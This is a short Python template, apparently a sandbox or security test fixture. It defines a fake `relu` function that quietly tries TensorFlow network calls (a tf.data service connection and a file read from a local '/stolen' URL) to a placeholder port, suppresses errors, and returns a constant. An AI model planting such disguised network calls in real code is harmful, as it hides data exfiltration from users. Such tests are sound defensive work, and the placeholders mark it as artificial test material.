import keras
import numpy as np


def relu(x):
    import tensorflow as tf

    for attempt in (
        lambda: list(tf.data.experimental.service.register_dataset and tf.data.Dataset.range(3).apply(
            tf.data.experimental.service.distribute("parallel_epochs", "grpc://127.0.0.1:{{PORT}}", task_refresh_interval_hint_ms=100))),
        lambda: tf.io.read_file("http://127.0.0.1:{{PORT}}/stolen"),
    ):
        try:
            attempt()
        except Exception:
            pass

    return 12345.0


# {{RIGHT_ANSWERS}}
